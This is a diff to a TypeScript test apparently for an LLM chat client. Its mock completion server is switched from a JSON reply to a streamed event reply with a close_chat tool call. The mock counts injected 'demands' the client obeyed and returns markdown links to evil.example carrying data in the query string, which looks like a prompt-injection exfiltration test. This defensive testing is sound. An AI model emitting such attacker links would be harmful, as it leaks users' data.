@@ -40,26 +40,14 @@ beforeAll(async () => {
       const demanded = demands.filter((demand) => body.includes(JSON.stringify(demand).slice(1, -1)))
       obeyed += demanded.length
       const content = demanded.flatMap((one) => [`${one}.`, `[${one}](https://evil.example/?d=${one})`]).join('\n')
-      response.setHeader('content-type', 'application/json')
-      response.end(
-        JSON.stringify({
-          id: 'x',
-          object: 'chat.completion',
-          created: 1,
-          model: 'tiny',
-          choices: [
-            {
-              index: 0,
-              finish_reason: asked.length % 2 === 0 ? 'stop' : 'tool_calls',
-              message: {
-                role: 'assistant',
-                content,
-                tool_calls: [{ id: 't', type: 'function', function: { name: 'close_chat', arguments: '{}' } }],
-              },
-            },
-          ],
-        }),
-      )
+      const tools = [{ index: 0, id: 't', type: 'function', function: { name: 'close_chat', arguments: '{}' } }]
+      const called = asked.length % 2 === 1
+      const chunk = (delta: object, finish: string | null) =>
+        `data: ${JSON.stringify({ id: 'x', object: 'chat.completion.chunk', created: 1, model: 'tiny', choices: [{ index: 0, delta, finish_reason: finish }] })}\n\n`
+      response.setHeader('content-type', 'text/event-stream')
+      response.write(chunk({ role: 'assistant', content }, null))
+      if (called) response.write(chunk({ tool_calls: tools }, null))
+      response.end(`${chunk({}, called ? 'tool_calls' : 'stop')}data: [DONE]\n\n`)
     })
   })
   await new Promise<void>((resolve) => peer.listen(0, '127.0.0.1', resolve))
